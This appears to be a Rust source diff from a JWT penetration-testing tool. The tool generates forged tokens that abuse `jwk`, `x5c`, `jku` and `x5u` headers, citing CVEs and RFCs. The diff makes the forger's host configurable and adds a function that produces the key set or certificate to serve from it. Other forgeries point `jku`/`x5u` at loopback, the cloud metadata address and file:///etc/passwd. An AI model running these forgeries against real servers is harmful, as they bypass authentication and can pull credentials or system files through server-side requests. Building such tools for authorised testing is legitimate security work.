@@ -7,7 +7,7 @@ use super::{
     Family, Forged, Forgery, certificate,
     draft::{Draft, set},
 };
-use crate::jose::b64;
+use crate::jose::{b64, pem};
 
 const OWN: &str =
     "A key that the token brings along is trusted: anyone can write any token (CVE-2018-0114).";
@@ -25,16 +25,33 @@ pub(super) fn forgeries() -> Vec<Forgery> {
         Forgery::token(F, "jwk-symmetric", "Symmetric key in `jwk`", "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.", "RFC 7515 §4.1.3; own", OWN, |d| { let h = d.header_set("/alg", Some("HS256".into()))?; d.hmac_with(&set(&h, "/jwk", Some(json!({"kty":"oct","k":b64::encode("forged")})))?, b"forged") }),
         Forgery::token(F, "x5c-own", "Own certificate in `x5c`", "The header brings a self-signed certificate of the forger's; signed with its key.", "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack", OWN, |d| { let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", json!([STANDARD.encode(der)])) }),
         Forgery::token(F, "x5c-own-chain", "Own chain in `x5c`", "The header brings a certificate and the authority of the forger's that signed it; signed with the certificate's key.", "RFC 7515 §4.1.6, RFC 5280 §6.1; jwt_tool, jwt-hack", OWN, |d| { let chain = certificate::chain(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", chain.map(|der| Value::from(STANDARD.encode(der))).into_iter().collect()) }),
-        Forgery::token(F, "jku-own", "`jku` to the forger's server", "`jku` names a key set at the forger's; signed with a key of the forger's.", SOURCE, FETCH, |d| own(d, "/jku", json!("https://forger.example/jwks.json"))),
+        Forgery::token(F, "jku-own", "`jku` to the forger's server", "`jku` names a key set at the forger's; signed with a key of the forger's.", SOURCE, FETCH, |d| own(d, "/jku", d.with.place("jwks.json").into())),
         Forgery::token(F, "jku-loopback", "`jku` to loopback", "`jku` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://127.0.0.1:9/jwks.json"))),
         Forgery::token(F, "jku-metadata", "`jku` to the metadata address", "`jku` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://169.254.169.254/latest/meta-data/"))),
         Forgery::token(F, "jku-file", "`jku` to a file", "`jku` names a file.", SOURCE, INSIDE, |d| own(d, "/jku", json!("file:///etc/passwd"))),
-        Forgery::token(F, "jku-userinfo", "`jku` behind the issuer's name", "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.", "RFC 8725 §3.10; PortSwigger", FETCH, |d| { let issuer = d.claim_text("iss").unwrap_or_else(|_| "https://issuer.example".into()); own(d, "/jku", json!(format!("{}@forger.example/jwks.json", issuer.trim_end_matches('/')))) }),
-        Forgery::token(F, "x5u-own", "`x5u` to the forger's server", "`x5u` names a certificate at the forger's; signed with its key.", SOURCE, FETCH, |d| own(d, "/x5u", json!("https://forger.example/cert.pem"))),
+        Forgery::token(F, "jku-userinfo", "`jku` behind the issuer's name", "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.", "RFC 8725 §3.10; PortSwigger", FETCH, |d| { let issuer = d.claim_text("iss").unwrap_or_else(|_| "https://issuer.example".into()); let place = d.with.place("jwks.json"); let (_, place) = place.split_once("://").unwrap_or(("", &place)); own(d, "/jku", json!(format!("{}@{place}", issuer.trim_end_matches('/')))) }),
+        Forgery::token(F, "x5u-own", "`x5u` to the forger's server", "`x5u` names a certificate at the forger's; signed with its key.", SOURCE, FETCH, |d| own(d, "/x5u", d.with.place("cert.pem").into())),
         Forgery::token(F, "x5u-loopback", "`x5u` to loopback", "`x5u` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://127.0.0.1:9/cert.pem"))),
         Forgery::token(F, "x5u-metadata", "`x5u` to the metadata address", "`x5u` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://169.254.169.254/latest/meta-data/"))),
         Forgery::token(F, "x5u-file", "`x5u` to a file", "`x5u` names a file.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("file:///etc/passwd"))),
     ]
+}
+
+/// What has to stand at the address that a forgery points to, for a server that fetches it: what it is,
+/// and its text.
+pub fn hosted(name: &str, with: &super::Ingredients) -> Option<(&'static str, String)> {
+    match name {
+        "jku-own" | "jku-userinfo" => {
+            let key = Value::Object(with.own.public()?.0);
+            let set = serde_json::to_string_pretty(&json!({ "keys": [key] })).ok()?;
+            Some(("key set", set))
+        }
+        "x5u-own" => {
+            let der = certificate::self_signed(&with.own, &with.own_alg).ok()?;
+            Some(("certificate", pem::armour("CERTIFICATE", &der)))
+        }
+        _ => None,
+    }
 }
 
 /// Adds a member that leads to the forger's key, takes the issuer's `kid` away, and signs.
